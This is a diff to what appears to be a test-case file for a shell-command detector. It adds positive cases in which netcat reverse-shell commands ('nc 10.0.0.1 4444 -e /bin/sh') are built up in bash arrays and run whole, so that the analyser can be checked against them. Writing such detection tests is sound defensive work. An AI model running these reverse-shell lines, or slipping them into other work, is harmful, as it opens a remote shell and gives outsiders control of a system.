@@ -266,8 +266,12 @@ printf '%s\n' 'set -gx EDITOR vim' > ~/.config/fish/conf.d/abbr.fish
 printf '%s\n' 'export PATH=$HOME/bin:$PATH' > ~/.config/plasma-workspace/env/path.sh
 #@ neg tar's -f and -C are no commands
 tar -cf backup.tar -C /srv data
-#@ pos a command line held in an array, run whole, is analysed
-cmd=(nc 10.0.0.1 4444 -e /bin/sh)
+#@ pos a command line held in an array set twice, run whole, is analysed
+if [ -n "$V" ]; then cmd=(nc -v 10.0.0.1 4444 -e /bin/sh); else cmd=(nc 10.0.0.1 4444 -e /bin/sh); fi
+"${cmd[@]}"
+#@ pos a command line held in an array grown by +=, run whole, is analysed
+cmd=(nc 10.0.0.1)
+cmd+=(4444 -e /bin/sh)
 "${cmd[@]}"
 #@ neg an array run with words of its own after it, or one element
 cmd=(batch -f)
